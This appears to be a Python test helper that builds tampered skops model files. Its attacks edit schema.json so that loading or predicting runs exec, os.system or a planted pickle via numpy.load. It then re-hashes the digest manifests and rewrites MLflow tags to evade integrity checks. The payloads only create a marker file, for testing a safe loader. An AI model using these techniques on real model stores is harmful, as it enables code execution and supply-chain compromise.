"""What an attacker who can write the artifact store (and the registry's tags) would do.

Each ``ATTACKS`` entry rewrites a real ``pipeline.skops`` by editing its
``schema.json``: the file still loads into a pipeline that predicts, but a node
calls a function when it is constructed or when the model predicts. Every
payload creates the file ``marker``, so a test sees whether anything ran.
``reseal`` then rewrites the digest manifests to match, as such an attacker would.
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

__all__ = ["ATTACKS", "NAMES", "read_schema", "reseal", "retag", "tamper", "write_schema"]


def _json(value: Any) -> dict[str, Any]:
    kind = {str: "str", bool: "bool", int: "int", type(None): "NoneType"}[type(value)]
    return {
        "__class__": kind,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": list(items),
    }


def _dict(content: dict[str, dict[str, Any]]) -> dict[str, Any]:
    keys = [{"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}] * len(content)
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": keys,
        },
    }


def _call(module: str, name: str, *args: dict[str, Any]) -> dict[str, Any]:
    """A node that calls ``module.name(*args)`` when it is constructed (a reduce node)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "LossNode",
        "__reduce__": {"args": _tuple(*args)},
        "content": _dict({}),
    }


def _function(module: str, name: str) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def _partial(func: dict[str, Any], *args: dict[str, Any]) -> dict[str, Any]:
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {
            "func": func,
            "args": _tuple(*args),
            "kwds": _dict({}),
            "namespace": _json(None),
        },
    }


def _touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('ran')"


def _set_attribute(obj: dict[str, Any], name: str, node: dict[str, Any]) -> None:
    """Add ``name = node`` to an ObjectNode's attributes (its state dict)."""
    attrs = obj["content"]
    attrs["content"][name] = node
    attrs["key_types"]["content"].append(
        {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
    )


def _exec_on_load(schema: dict[str, Any], marker: Path, folder: Path) -> None:
    """A reduce node whose constructor is ``builtins.exec``: it runs while the file loads."""
    _set_attribute(schema, "cache_", _call("builtins", "exec", _json(_touch(marker))))


def _partial_exec_in_transformer(schema: dict[str, Any], marker: Path, folder: Path) -> None:
    """The numeric columns' pass-through becomes ``FunctionTransformer(partial(exec, code, {}))``.

    Loading constructs nothing dangerous; the code runs when the model predicts.
    """
    steps = schema["content"]["content"]["steps"]["content"]
    preprocess = next(step for step in steps if step["content"][0]["content"] == '"preprocess"')
    columns = preprocess["content"][1]["content"]["content"]["transformers_"]["content"]
    passthrough = columns[0]["content"][1]
    assert passthrough["__class__"] == "FunctionTransformer", passthrough["__class__"]
    code = _touch(marker)
    passthrough["content"]["content"]["func"] = _partial(
        _function("builtins", "exec"), _json(code), _dict({})
    )


def _numpy_load_pickle(schema: dict[str, Any], marker: Path, folder: Path) -> None:
    """``numpy.load(path, None, True)`` on a pickle put next to the pipeline in the store."""

    class Payload:
        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return (exec, (_touch(marker),))

    evil = folder / "cache.npy"
    evil.write_bytes(pickle.dumps(Payload()))
    node = _call("numpy", "load", _json(str(evil)), _json(None), _json(True))
    _set_attribute(schema, "cache_", node)


def _partial_os_system(schema: dict[str, Any], marker: Path, folder: Path) -> None:
    """A dict whose key type is ``partial(os.system)``: loading calls it with the key."""
    weird = _dict({f"touch {marker}": _json(1)})
    weird["key_types"]["content"] = [_partial(_function("os", "system"))]
    _set_attribute(schema, "cache_", weird)


ATTACKS: dict[str, Callable[[dict[str, Any], Path, Path], None]] = {
    "exec": _exec_on_load,
    "partial-exec": _partial_exec_in_transformer,
    "numpy-load": _numpy_load_pickle,
    "partial-os-system": _partial_os_system,
}
# the name a refusal must give for each attack
NAMES = {
    "exec": "builtins.exec",
    "partial-exec": "builtins.exec",
    "numpy-load": "numpy.load",
    "partial-os-system": "os.system",
}


def read_schema(skops_file: Path) -> dict[str, Any]:
    with zipfile.ZipFile(skops_file) as archive:
        return json.loads(archive.read("schema.json"))  # type: ignore[no-any-return]


def write_schema(skops_file: Path, schema: dict[str, Any]) -> None:
    """Replace ``schema.json`` in a skops zip, keeping every other member."""
    with zipfile.ZipFile(skops_file) as archive:
        members = {n: archive.read(n) for n in archive.namelist() if n != "schema.json"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, data in members.items():
            archive.writestr(name, data)
    skops_file.write_bytes(buffer.getvalue())


def tamper(skops_file: Path, attack: str, marker: Path) -> None:
    """Rewrite a real ``pipeline.skops`` with ``attack``; its payload would create ``marker``."""
    schema = read_schema(skops_file)
    ATTACKS[attack](schema, marker, skops_file.parent)
    write_schema(skops_file, schema)


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def reseal(model_dir: Path) -> str:
    """Rewrite every ``digests.json`` in the folder to match its files; the top one's SHA-256.

    Each manifest lists every file under its folder (paths relative to it) except
    itself and a signature, deepest manifest first, so the outer one covers it.
    """
    manifests = sorted(model_dir.rglob("digests.json"), key=lambda p: -len(p.parts))
    for manifest in manifests:
        base = manifest.parent
        files = sorted(
            p for p in base.rglob("*") if p.is_file() and p != manifest and p.name != "digests.sig"
        )
        digests = {p.relative_to(base).as_posix(): _sha256(p) for p in files}
        manifest.write_text(json.dumps(digests, indent=1, sort_keys=True))
    return _sha256(manifests[-1])


def retag(tracking_uri: str, name: str, version: str, digest: str) -> None:
    """Set the version's package digest tag, as any writer of an MLflow server without auth can."""
    from mlflow import MlflowClient

    client = MlflowClient(tracking_uri=tracking_uri, registry_uri=tracking_uri)
    client.set_model_version_tag(name, version, "mlfactory.package_sha256", digest)
